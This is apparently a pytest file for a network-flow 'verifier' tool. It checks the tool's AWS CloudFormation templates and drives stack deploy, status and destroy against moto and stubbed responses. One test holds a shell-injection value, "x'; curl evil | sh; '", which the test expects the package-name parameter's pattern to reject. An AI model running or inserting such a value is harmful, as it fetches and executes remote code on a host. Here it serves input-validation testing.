"""The collector's CloudFormation templates (read as data: what the issue requires of each) and the driver of
``verifier collector deploy|status|destroy`` against moto's CloudFormation and, for answers moto does not
give (in-progress states, failures, "No updates are to be performed"), botocore's Stubber.

moto 5.2 creates the evidence bucket (with its SSE-KMS default encryption), the KMS keys, the collector
instance, its security group, ingress rule, role and instance profile, the SNS topic and the IAM policy, but
not AWS::S3::BucketPolicy, AWS::Scheduler::Schedule or AWS::CloudWatch::Alarm (it warns and skips them), and
it ignores the bucket's versioning, lifecycle and public access block, the instance's MetadataOptions and the
role's managed policies: the template tests below check those.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import boto3
import pytest
import typer
import yaml
from botocore.stub import Stubber
from moto import mock_aws

from tests.aws.test_pca import offline_environment
from tests.conftest import REPO
from verifier.aws import collector_stack
from verifier.aws.collector_stack import (
    CollectorSettings,
    SpotCheckSettings,
    StackState,
    Waiting,
    deploy,
    deploy_stack,
    destroy,
    stack_names,
    status,
    status_lines,
)
from verifier.cli import app
from verifier.errors import AwsError, UsageError

REGION = "eu-west-1"
TEMPLATES = REPO / "infra" / "cloudformation"
OPERATOR_POLICY = REPO / "infra" / "iam" / "verifier-operator-policy.json"
# moto warns about each resource type it cannot create; pytest turns warnings into errors.
MOTO_SKIPS = pytest.mark.filterwarnings("ignore:Tried to parse:UserWarning")
# Operator statements the collector role does not get: remote capture is driven from the operator's machine,
# the collector has its own S3 and KMS grants (its bucket, its prefix), stacks are deployed by the operator,
# and the spot check reports to S3 and CloudWatch, not Security Hub.
NOT_FOR_ON_COLLECTOR_RUNS = {
    "RemoteCaptureSsmStatusAndCancel",
    "RemoteCaptureRunShellScriptOnInstances",
    "CaptureObjectsOnlyInBucketsNamedVerifierDashAnything",
    "CaptureSseKmsOnlyThroughS3",
    "CollectorStacksDeployInspectDelete",
    "ImportFindingsIntoSecurityHub",
}


class _CfnLoader(yaml.SafeLoader):
    """YAML with CloudFormation's short forms: !Ref X -> {"Ref": X}, !Sub s -> {"Fn::Sub": s}, ..."""


def _short_form(loader: yaml.SafeLoader, tag_suffix: str, node: yaml.Node) -> dict[str, Any]:
    if isinstance(node, yaml.ScalarNode):
        value: Any = loader.construct_scalar(node)
    elif isinstance(node, yaml.SequenceNode):
        value = loader.construct_sequence(node, deep=True)
    else:
        value = loader.construct_mapping(node, deep=True)  # type: ignore[arg-type]
    if tag_suffix == "Ref":
        return {"Ref": value}
    if tag_suffix == "GetAtt" and isinstance(value, str):
        value = value.split(".", 1)
    return {f"Fn::{tag_suffix}": value}


_CfnLoader.add_multi_constructor("!", _short_form)


def template(name: str) -> dict[str, Any]:
    loaded: dict[str, Any] = yaml.load((TEMPLATES / name).read_text(), Loader=_CfnLoader)
    return loaded


def resources_of_type(document: dict[str, Any], kind: str) -> dict[str, dict[str, Any]]:
    return {name: body for name, body in document["Resources"].items() if body["Type"] == kind}


def statements(role: dict[str, Any], policy_name: str) -> list[dict[str, Any]]:
    [policy] = [p for p in role["Properties"]["Policies"] if p["PolicyName"] == policy_name]
    return list(policy["PolicyDocument"]["Statement"])


# ---------------------------------------------------------------------------------------------------------
# Templates


def test_the_collector_is_a_private_imdsv2_instance_without_ssh_key_on_encrypted_volumes() -> None:
    collector = template("collector.yaml")
    [instance] = resources_of_type(collector, "AWS::EC2::Instance").values()
    properties = instance["Properties"]
    assert properties["MetadataOptions"]["HttpTokens"] == "required"
    assert "KeyName" not in properties
    assert properties["SubnetId"] == {"Ref": "SubnetId"}
    assert "NetworkInterfaces" not in properties  # no AssociatePublicIpAddress anywhere
    volumes = properties["BlockDeviceMappings"]
    assert volumes and all(volume["Ebs"]["Encrypted"] is True for volume in volumes)
    user_data = properties["UserData"]["Fn::Base64"]["Fn::Sub"]
    assert "mtu 9001" in user_data
    assert "pip install '${VerifierPackage}'" in user_data
    # the package name lands between single quotes: the parameter's pattern keeps quotes out
    pattern = re.compile(collector["Parameters"]["VerifierPackage"]["AllowedPattern"])
    assert pattern.fullmatch("git+https://example.com/verifier.git@v0.1.0")
    assert not pattern.fullmatch("x'; curl evil | sh; '")


def test_the_default_instance_type_can_be_a_mirror_target_and_unsupported_ones_are_refused() -> None:
    instance_type = template("collector.yaml")["Parameters"]["InstanceType"]
    pattern = re.compile(instance_type["AllowedPattern"])
    assert pattern.fullmatch(instance_type["Default"])
    assert pattern.fullmatch("c5n.large")
    # T2 and bare metal: AWS's Traffic Mirroring limitations
    for refused in ("t2.micro", "m5.metal", "c5n.metal", "m3.large"):
        assert not pattern.fullmatch(refused), refused


def test_only_vxlan_from_the_given_source_may_enter_the_collector() -> None:
    collector = template("collector.yaml")
    [group] = resources_of_type(collector, "AWS::EC2::SecurityGroup").values()
    assert "SecurityGroupIngress" not in group["Properties"]
    assert [
        (rule["IpProtocol"], rule["FromPort"], rule["ToPort"])
        for rule in group["Properties"]["SecurityGroupEgress"]
    ] == [("tcp", 443, 443)]
    ingress = resources_of_type(collector, "AWS::EC2::SecurityGroupIngress")
    assert {
        (
            body["Condition"],
            body["Properties"]["IpProtocol"],
            body["Properties"]["FromPort"],
            body["Properties"]["ToPort"],
        )
        for body in ingress.values()
    } == {
        ("FromSecurityGroup", "udp", 4789, 4789),
        ("FromCidr", "udp", 4789, 4789),
    }
    by_condition = {body["Condition"]: body["Properties"] for body in ingress.values()}
    assert by_condition["FromSecurityGroup"]["SourceSecurityGroupId"] == {
        "Ref": "MirrorSourceSecurityGroupId"
    }
    assert by_condition["FromCidr"]["CidrIp"] == {"Ref": "MirrorSourceCidr"}
    # the conditions are the parameters' being given, and the rule lets exactly one be given
    assert collector["Conditions"]["FromCidr"] == {
        "Fn::Not": [{"Fn::Equals": [{"Ref": "MirrorSourceCidr"}, ""]}]
    }
    assert "ExactlyOneMirrorSource" in collector["Rules"]


def test_the_collector_role_is_ssm_managed_and_writes_only_under_the_evidence_prefix() -> None:
    [role] = resources_of_type(template("collector.yaml"), "AWS::IAM::Role").values()
    assert role["Properties"]["ManagedPolicyArns"] == [
        {"Fn::Sub": "arn:${AWS::Partition}:iam::aws:policy/AmazonSSMManagedInstanceCore"}
    ]
    evidence = {statement["Sid"]: statement for statement in statements(role, "evidence")}
    assert evidence["WriteEvidenceUnderPrefix"]["Action"] == ["s3:DeleteObject", "s3:PutObject"]
    assert evidence["WriteEvidenceUnderPrefix"]["Resource"] == {
        "Fn::Sub": "arn:${AWS::Partition}:s3:::${EvidenceBucketName}/${EvidencePrefix}*"
    }
    assert evidence["EvidenceKeyThroughS3"]["Resource"] == {"Ref": "EvidenceKeyArn"}


def test_the_collector_role_grants_what_a_run_needs_exactly_as_the_operator_policy_does() -> None:
    [role] = resources_of_type(template("collector.yaml"), "AWS::IAM::Role").values()
    operator = json.loads(OPERATOR_POLICY.read_text())["Statement"]
    wanted = [statement for statement in operator if statement["Sid"] not in NOT_FOR_ON_COLLECTOR_RUNS]
    assert statements(role, "on-collector-runs") == wanted


def test_the_evidence_bucket_is_kms_encrypted_private_tls_only_versioned_and_expires() -> None:
    evidence = template("evidence-bucket.yaml")
    [key] = resources_of_type(evidence, "AWS::KMS::Key").values()
    assert key["Properties"]["EnableKeyRotation"] is True
    [bucket] = resources_of_type(evidence, "AWS::S3::Bucket").values()
    properties = bucket["Properties"]
    [encryption] = properties["BucketEncryption"]["ServerSideEncryptionConfiguration"]
    assert encryption["ServerSideEncryptionByDefault"] == {
        "SSEAlgorithm": "aws:kms",
        "KMSMasterKeyID": {"Fn::GetAtt": ["EvidenceKey", "Arn"]},
    }
    assert set(properties["PublicAccessBlockConfiguration"].values()) == {True}
    assert len(properties["PublicAccessBlockConfiguration"]) == 4
    assert properties["VersioningConfiguration"] == {"Status": "Enabled"}
    [rule] = properties["LifecycleConfiguration"]["Rules"]
    assert rule["ExpirationInDays"] == {"Ref": "RetentionDays"}
    assert rule["NoncurrentVersionExpiration"] == {"NoncurrentDays": {"Ref": "RetentionDays"}}
    [policy] = resources_of_type(evidence, "AWS::S3::BucketPolicy").values()
    tls = next(s for s in policy["Properties"]["PolicyDocument"]["Statement"] if s["Sid"] == "DenyWithoutTls")
    assert tls["Effect"] == "Deny"
    assert tls["Action"] == "s3:*"
    assert tls["Condition"] == {"Bool": {"aws:SecureTransport": "false"}}
    # the operator policy's S3 statement covers buckets named verifier-*: the stack name starts so
    assert properties["BucketName"] == {"Fn::Sub": "${AWS::StackName}-${AWS::AccountId}-${AWS::Region}"}


@dataclass
class SpotCheckScript:
    request: dict[str, Any]  # SendCommand's request, placeholders for the template's ${...}
    commands: list[str]


def spot_check_script() -> SpotCheckScript:
    schedule = template("spot-check.yaml")["Resources"]["SpotCheckSchedule"]["Properties"]
    assert schedule["Target"]["Arn"] == {
        "Fn::Sub": "arn:${AWS::Partition}:scheduler:::aws-sdk:ssm:sendCommand"
    }
    text, variables = schedule["Target"]["Input"]["Fn::Sub"]
    assert set(variables) == {"ServiceOptions"}
    values = {
        "CollectorInstanceId": "i-0123456789abcdef0",
        "AWS::Region": REGION,
        "AWS::StackName": "verifier-spot-check",
        "Cluster": "shop",
        "ServiceOptions": "web --service api",
        "Duration": "300s",
        "RunArguments": "--fix-sg",
        "EvidenceBucketName": "verifier-evidence-123456789012-eu-west-1",
        "EvidencePrefix": "evidence/",
    }
    substituted = re.sub(r"\$\{([^}]+)\}", lambda match: values[match.group(1)], text)
    request = json.loads(substituted)
    return SpotCheckScript(request, request["Parameters"]["commands"])


def test_the_spot_check_sends_a_shell_script_that_parses() -> None:
    script = spot_check_script()
    assert script.request["DocumentName"] == "AWS-RunShellScript"
    assert script.request["InstanceIds"] == ["i-0123456789abcdef0"]
    checked = subprocess.run(["bash", "-n"], input="\n".join(script.commands), text=True, capture_output=True)
    assert checked.returncode == 0, checked.stderr


def run_spot_check(tmp_path: Path, verifier_body: str) -> tuple[int, list[str]]:
    """Run the spot check's script (bash, as on Amazon Linux 2023) with stand-ins for `verifier` and `aws`;
    its exit status and the `aws` command lines it ran."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    log = tmp_path / "aws.log"
    stand_ins = {"verifier": verifier_body, "aws": f'echo "$*" >> {log}\n'}
    for name, body in stand_ins.items():
        (bin_dir / name).write_text("#!/bin/bash\n" + body)
        (bin_dir / name).chmod(0o755)
    (bin_dir / "python3").symlink_to(sys.executable)  # the script counts FAIL flows with python3
    finished = subprocess.run(
        ["bash", "-c", "\n".join(spot_check_script().commands)],
        env={"PATH": f"{bin_dir}:/usr/bin:/bin", "TMPDIR": str(tmp_path)},
        capture_output=True,
        text=True,
    )
    return finished.returncode, log.read_text().splitlines() if log.exists() else []


def test_the_spot_check_uploads_the_report_and_counts_failed_flows(tmp_path: Path) -> None:
    # A run with findings: verifier writes its JSON report to --output and exits 1.
    report = json.dumps({"summary": {"by_verdict": {"PASS": 5, "FAIL": 2}}})
    writes_report = f"""while [ $# -gt 0 ]; do [ "$1" = --output ] && out=$2; shift; done
echo '{report}' > "$out"
exit 1
"""
    code, aws = run_spot_check(tmp_path, writes_report)
    assert code == 1
    [upload, failed, errors] = aws
    assert re.fullmatch(
        r"s3 cp \S+\.json s3://verifier-evidence-123456789012-eu-west-1/evidence/spot-\d{8}T\d{6}Z\.json "
        r"--region eu-west-1",
        upload,
    )
    assert failed.endswith("--dimensions Cluster=shop --metric-name FailedFlows --value 2")
    assert errors.endswith("--metric-name SpotCheckErrors --value 0")
    assert list(tmp_path.glob("*.json")) == []  # the local report is removed


def test_a_spot_check_that_could_not_run_raises_the_error_metric(tmp_path: Path) -> None:
    code, aws = run_spot_check(tmp_path, "echo 'verifier: AccessDenied' >&2\nexit 3\n")
    assert code == 3
    [failed, errors] = aws  # no report, nothing uploaded
    assert failed.endswith("--metric-name FailedFlows --value 0")
    assert errors.endswith("--metric-name SpotCheckErrors --value 1")


def test_the_spot_check_runs_verifier_with_options_the_cli_has() -> None:
    [line] = [command for command in spot_check_script().commands if command.startswith("verifier run ")]
    used = set(re.findall(r"(--[a-z-]+)", line))
    run = next(c for c in typer.main.get_command(app).commands.values() if c.name == "run")  # type: ignore[attr-defined]
    known = {option for parameter in run.params for option in parameter.opts}
    assert used - known == set()
    assert {"--collector", "--cluster", "--service", "--format", "--output"} <= used


def test_the_alarms_watch_the_metrics_the_script_puts() -> None:
    spot_check = template("spot-check.yaml")
    put = [command for command in spot_check_script().commands if "put-metric-data" in command]
    written = {
        (re.search(r"--namespace (\S+)", line)[1], re.search(r"--metric-name (\S+)", line)[1])  # type: ignore[index]
        for line in put
    }
    alarms = resources_of_type(spot_check, "AWS::CloudWatch::Alarm").values()
    watched = {(alarm["Properties"]["Namespace"], alarm["Properties"]["MetricName"]) for alarm in alarms}
    assert watched == written == {("Verifier", "FailedFlows"), ("Verifier", "SpotCheckErrors")}
    [metrics] = resources_of_type(spot_check, "AWS::IAM::Policy").values()
    [grant] = metrics["Properties"]["PolicyDocument"]["Statement"]
    assert grant["Condition"] == {"StringEquals": {"cloudwatch:namespace": "Verifier"}}


# ---------------------------------------------------------------------------------------------------------
# Driver against moto


@dataclass
class Account:
    session: Any
    cfn: Any
    vpc: str
    subnet: str


@pytest.fixture
def account(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Account]:
    offline_environment(monkeypatch, tmp_path)
    with mock_aws():
        session = boto3.session.Session(
            aws_access_key_id="testing", aws_secret_access_key="testing", region_name=REGION
        )
        ec2 = session.client("ec2")
        vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
        subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.0.1.0/24")["Subnet"]["SubnetId"]
        yield Account(session, session.client("cloudformation"), vpc, subnet)


NO_WAIT = Waiting(timeout=5, poll=0)


def settings(account: Account, **changes: Any) -> CollectorSettings:
    given: dict[str, Any] = {"package": "verifier==0.1.0", "mirror_source_cidr": "10.0.0.0/16"} | changes
    return CollectorSettings(vpc_id=account.vpc, subnet_id=account.subnet, **given)


@MOTO_SKIPS
def test_deploy_creates_the_three_stacks_wired_by_their_outputs(account: Account) -> None:
    progress: list[str] = []
    deployed = deploy(
        account.cfn,
        TEMPLATES,
        settings(account, instance_type="c5n.large", retention_days=30),
        SpotCheckSettings(cluster="shop", services=("web", "api")),
        waiting=NO_WAIT,
        progress=progress.append,
    )
    assert [(state.name, state.status) for state in deployed] == [
        ("verifier-evidence", "CREATE_COMPLETE"),
        ("verifier-collector", "CREATE_COMPLETE"),
        ("verifier-spot-check", "CREATE_COMPLETE"),
    ]
    assert progress[0] == "verifier-evidence: creating"
    evidence, collector, _ = deployed
    bucket = evidence.output("BucketName")
    assert bucket == "verifier-evidence-123456789012-eu-west-1"
    [rule] = account.session.client("s3").get_bucket_encryption(Bucket=bucket)[
        "ServerSideEncryptionConfiguration"
    ]["Rules"]
    assert rule["ApplyServerSideEncryptionByDefault"] == {
        "SSEAlgorithm": "aws:kms",
        "KMSMasterKeyID": evidence.output("KeyArn"),
    }
    ec2 = account.session.client("ec2")
    [reservation] = ec2.describe_instances(InstanceIds=[collector.output("InstanceId")])["Reservations"]
    assert reservation["Instances"][0]["InstanceType"] == "c5n.large"
    assert reservation["Instances"][0]["SubnetId"] == account.subnet
    [group] = ec2.describe_security_groups(GroupIds=[collector.output("SecurityGroupId")])["SecurityGroups"]
    assert [
        (p["IpProtocol"], p["FromPort"], [r["CidrIp"] for r in p["IpRanges"]]) for p in group["IpPermissions"]
    ] == [("udp", 4789, ["10.0.0.0/16"])]
    # the collector's parameters came from the evidence stack's outputs, the spot check's from both
    parameters = {
        p["ParameterKey"]: p["ParameterValue"]
        for p in account.cfn.describe_stacks(StackName="verifier-spot-check")["Stacks"][0]["Parameters"]
    }
    assert parameters["CollectorInstanceId"] == collector.output("InstanceId")
    assert parameters["CollectorRoleName"] == collector.output("RoleName")
    assert parameters["EvidenceBucketName"] == bucket
    iam = account.session.client("iam")
    assert (
        "verifier-spot-check-metrics"
        in iam.list_role_policies(RoleName=collector.output("RoleName"))["PolicyNames"]
    )


@MOTO_SKIPS
def test_deploy_again_updates_in_place(account: Account) -> None:
    first = deploy(account.cfn, TEMPLATES, settings(account), waiting=NO_WAIT)
    again = deploy(
        account.cfn, TEMPLATES, settings(account, mirror_source_cidr="10.1.0.0/16"), waiting=NO_WAIT
    )
    assert [state.status for state in again] == ["UPDATE_COMPLETE", "UPDATE_COMPLETE"]
    assert again[1].output("InstanceId") == first[1].output("InstanceId")


@MOTO_SKIPS
def test_status_then_destroy_keeps_the_evidence_unless_asked(account: Account) -> None:
    deploy(account.cfn, TEMPLATES, settings(account), waiting=NO_WAIT)
    lines = status_lines(status(account.cfn))
    assert lines[0] == "verifier-evidence: CREATE_COMPLETE"
    assert "  BucketName: verifier-evidence-123456789012-eu-west-1" in lines
    assert lines[-1] == "verifier-spot-check: not deployed"

    assert destroy(account.cfn, waiting=NO_WAIT) == ["verifier-collector"]
    assert [(name, state is not None) for name, state in status(account.cfn)] == [
        ("verifier-evidence", True),
        ("verifier-collector", False),
        ("verifier-spot-check", False),
    ]
    assert destroy(account.cfn, evidence=True, waiting=NO_WAIT) == ["verifier-evidence"]
    assert all(state is None for _, state in status(account.cfn))
    # DeletionPolicy Retain: the bucket and its evidence outlive the stack
    buckets = account.session.client("s3").list_buckets()["Buckets"]
    assert [b["Name"] for b in buckets] == ["verifier-evidence-123456789012-eu-west-1"]


def test_deploy_refuses_bad_settings_before_creating_anything(account: Account) -> None:
    both = settings(account, mirror_source_security_group="sg-0123456789abcdef0")
    for wrong in (
        both,
        settings(account, mirror_source_cidr=None),
        settings(account, mirror_source_cidr="10.0.0.0"),
    ):
        with pytest.raises(UsageError):
            deploy(account.cfn, TEMPLATES, wrong, waiting=NO_WAIT)
    with pytest.raises(UsageError, match="at least one ECS service"):
        deploy(account.cfn, TEMPLATES, settings(account), SpotCheckSettings("shop", ()), waiting=NO_WAIT)
    assert account.cfn.list_stacks()["StackSummaries"] == []


def test_stack_names_stay_in_the_operator_policy_scope() -> None:
    assert stack_names("verifier-prod") == {
        "evidence": "verifier-prod-evidence",
        "collector": "verifier-prod-collector",
        "spot-check": "verifier-prod-spot-check",
    }
    for wrong in ("prod", "verifier_prod", "Verifier", "verifier-" + "x" * 20):
        with pytest.raises(UsageError):
            stack_names(wrong)


def test_missing_templates_are_a_usage_error(account: Account, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="evidence template"):
        deploy(account.cfn, tmp_path, settings(account), waiting=NO_WAIT)


# ---------------------------------------------------------------------------------------------------------
# Waiting and failures (Stubber: moto settles every stack at once and never fails one)


class Clock:
    def __init__(self) -> None:
        self.now = 0.0
        self.sleeps: list[float] = []

    def __call__(self) -> float:
        return self.now

    def sleep(self, seconds: float) -> None:
        self.sleeps.append(seconds)
        self.now += seconds


@pytest.fixture
def stubbed(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[tuple[Any, Stubber]]:
    offline_environment(monkeypatch, tmp_path)
    cfn = boto3.session.Session(
        aws_access_key_id="testing", aws_secret_access_key="testing", region_name=REGION
    ).client("cloudformation")
    with Stubber(cfn) as stubber:
        yield cfn, stubber
        stubber.assert_no_pending_responses()


def described(status: str, reason: str = "") -> dict[str, Any]:
    stack: dict[str, Any] = {"StackName": "s", "CreationTime": "2026-11-22T17:00:00Z", "StackStatus": status}
    if reason:
        stack["StackStatusReason"] = reason
    return {"Stacks": [stack]}


def missing(stubber: Stubber) -> None:
    stubber.add_client_error(
        "describe_stacks",
        "ValidationError",
        "Stack with id s does not exist",
        expected_params={"StackName": "s"},
    )


def event(resource: str, status: str, reason: str) -> dict[str, Any]:
    return {
        "StackId": "arn:aws:cloudformation:eu-west-1:123456789012:stack/s/1",
        "EventId": f"{resource}-{status}",
        "StackName": "s",
        "LogicalResourceId": resource,
        "ResourceStatus": status,
        "ResourceStatusReason": reason,
        "Timestamp": "2026-11-22T17:00:00Z",
    }


def test_a_failed_creation_says_which_resource_failed_first(stubbed: tuple[Any, Stubber]) -> None:
    cfn, stubber = stubbed
    clock = Clock()
    missing(stubber)
    stubber.add_response(
        "create_stack", {"StackId": "arn:aws:cloudformation:eu-west-1:123456789012:stack/s/1"}
    )
    stubber.add_response("describe_stacks", described("CREATE_IN_PROGRESS"))
    stubber.add_response(
        "describe_stacks", described("ROLLBACK_COMPLETE", "The following resource(s) failed")
    )
    stubber.add_response(
        "describe_stack_events",
        {
            "StackEvents": [  # newest first
                event("CollectorRole", "CREATE_FAILED", "Resource creation cancelled"),
                event("Collector", "CREATE_FAILED", "m5.large is not supported in eu-west-1c"),
                event("s", "CREATE_IN_PROGRESS", "User Initiated"),
            ]
        },
    )
    with pytest.raises(AwsError) as raised:
        deploy_stack(cfn, "s", "{}", {}, Waiting(poll=7, sleep=clock.sleep, clock=clock))
    assert str(raised.value) == (
        "stack s did not create: ROLLBACK_COMPLETE (The following resource(s) failed); "
        "Collector: m5.large is not supported in eu-west-1c; CollectorRole: Resource creation cancelled"
    )
    assert clock.sleeps == [7]


def test_waiting_is_bounded(stubbed: tuple[Any, Stubber]) -> None:
    cfn, stubber = stubbed
    clock = Clock()
    stubber.add_response("describe_stacks", described("UPDATE_COMPLETE"))
    stubber.add_response(
        "update_stack", {"StackId": "arn:aws:cloudformation:eu-west-1:123456789012:stack/s/1"}
    )
    for _ in range(4):
        stubber.add_response("describe_stacks", described("UPDATE_IN_PROGRESS"))
    with pytest.raises(AwsError, match="still UPDATE_IN_PROGRESS after 30 s"):
        deploy_stack(cfn, "s", "{}", {}, Waiting(timeout=30, poll=10, sleep=clock.sleep, clock=clock))
    assert clock.sleeps == [10, 10, 10]


def test_an_unchanged_stack_is_left_alone(stubbed: tuple[Any, Stubber]) -> None:
    cfn, stubber = stubbed
    stubber.add_response("describe_stacks", described("CREATE_COMPLETE"))
    stubber.add_client_error("update_stack", "ValidationError", "No updates are to be performed.")
    progress: list[str] = []
    state = deploy_stack(cfn, "s", "{}", {"P": "v"}, NO_WAIT, progress.append)
    assert state == StackState("s", "CREATE_COMPLETE", "", ())
    assert progress == ["s: updating", "s: up to date"]


def test_a_stack_whose_creation_failed_is_deleted_and_created_again(stubbed: tuple[Any, Stubber]) -> None:
    cfn, stubber = stubbed
    stubber.add_response("describe_stacks", described("ROLLBACK_COMPLETE"))
    stubber.add_response("describe_stacks", described("ROLLBACK_COMPLETE"))
    stubber.add_response("delete_stack", {}, expected_params={"StackName": "s"})
    stubber.add_response("describe_stacks", described("DELETE_IN_PROGRESS"))
    missing(stubber)
    stubber.add_response(
        "create_stack",
        {"StackId": "arn:aws:cloudformation:eu-west-1:123456789012:stack/s/2"},
        expected_params={
            "StackName": "s",
            "TemplateBody": "{}",
            "Parameters": [{"ParameterKey": "P", "ParameterValue": "v"}],
            "Capabilities": ["CAPABILITY_IAM"],
        },
    )
    stubber.add_response("describe_stacks", described("CREATE_COMPLETE"))
    assert deploy_stack(cfn, "s", "{}", {"P": "v"}, NO_WAIT).status == "CREATE_COMPLETE"


def test_a_stack_busy_with_another_operation_is_not_touched(stubbed: tuple[Any, Stubber]) -> None:
    cfn, stubber = stubbed
    stubber.add_response("describe_stacks", described("UPDATE_ROLLBACK_IN_PROGRESS"))
    with pytest.raises(AwsError, match="another operation is running"):
        deploy_stack(cfn, "s", "{}", {}, NO_WAIT)


def test_access_denied_names_the_missing_permission(stubbed: tuple[Any, Stubber]) -> None:
    cfn, stubber = stubbed
    stubber.add_client_error("describe_stacks", "AccessDenied", "not authorized")
    with pytest.raises(AwsError, match="missing IAM permission cloudformation:DescribeStacks"):
        collector_stack.describe_stack(cfn, "s")
